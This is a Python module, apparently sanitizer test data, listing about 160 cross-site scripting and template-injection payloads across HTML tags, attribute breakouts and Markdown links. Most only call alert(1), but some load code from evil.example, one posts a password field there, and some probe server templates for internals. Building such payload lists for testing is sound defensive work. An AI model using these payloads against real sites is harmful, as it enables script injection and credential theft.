"""Strings that try to become a program in a page: each has been a hole somewhere. A script that runs calls alert."""

_ELEMENTS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script>alert(1)//
<script\\x20type="text/javascript">alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script><!--
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>">
<img src=`x`onerror=alert(1)>
<img srcset="//evil.example/x.png 1x">
<img src="//evil.example/x.png">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x"/>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="//evil.example"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code="x"></applet>
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="//evil.example/x.html">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.example">
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(//evil.example/x)}</style>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<button form=x formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form action="//evil.example"><input name=password></form>
<isindex action="javascript:alert(1)" type=submit>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;avascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a onmouseover=alert(1)>x</a>
<a href=x style="background:url(javascript:alert(1))">x</a>
<div style="width:expression(alert(1))">
<div onpointerenter=alert(1)>x</div>
<table background="javascript:alert(1)">
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;
<a id=x><a id=x name=y>
<p id=csrf_token>
""".strip().split("\n")

_BREAKERS = """
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'"><svg/onload=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
' autofocus onfocus='alert(1)
`onmouseover=alert(1)`
" href="javascript:alert(1)" x="
" style="animation-name:x" onanimationstart="alert(1)
\\"><script>alert(1)</script>
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
';alert(1);//
";alert(1);//
'-alert(1)-'
"-alert(1)-"
</script><img src=x onerror=alert(1)>
{"a":"</script><script>alert(1)</script>"}
${alert(1)}
{{7*7}}{{config}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{{ self._TemplateReference__context }}
#{7*7}
<%= 7*7 %>
%(name)s %(n)s %s
javascript:alert(1)
data:text/html,<script>alert(1)</script>
//evil.example
""".strip().split("\n")

_MARKDOWN = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](java%73cript:alert(1))
[x](&#x6A;&#x61;vascript:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](vbscript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](//evil.example)
[x](/\\\\evil.example)
[x](https://ok.example" onmouseover="alert(1))
[x](https://ok.example 'a" onmouseover="alert(1)')
[x](lms:kb_content/x.md)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x"onerror="alert(1)](https://ok.example/x.png)
![<img src=x onerror=alert(1)>](https://ok.example/x.png)
<javascript:alert(1)>
<https://ok.example/"onmouseover="alert(1)>
[x]: javascript:alert(1)
[x][javascript:alert(1)]
[<script>alert(1)</script>](https://ok.example)
[a](b "c"onclick="alert(1))
`<script>alert(1)</script>`
    <script>alert(1)</script>
~~~<script>alert(1)</script>
> 话术：<img src=x onerror=alert(1)> {"><script>alert(1)</script>}
> 内部：<svg onload=alert(1)>
- [x] <script>alert(1)</script>
| <script>alert(1)</script> | <img src=x onerror=alert(1)> |
# <script>alert(1)</script>
<span data-say="copy"></span>
<span data-say="script" onclick=alert(1)>
**<b onclick=alert(1)>**
_<script>_alert(1)</script>
<a href="lms:x" onclick=alert(1)>x</a>
\\<script\\>alert(1)\\</script\\>
\x02wzxhzdk:0\x03<script>alert(1)</script>
$$\\href{javascript:alert(1)}{x}$$
<!-- <script>alert(1)</script> -->
""".strip().split("\n")

PAYLOADS = [*_ELEMENTS, *_BREAKERS, *_MARKDOWN]
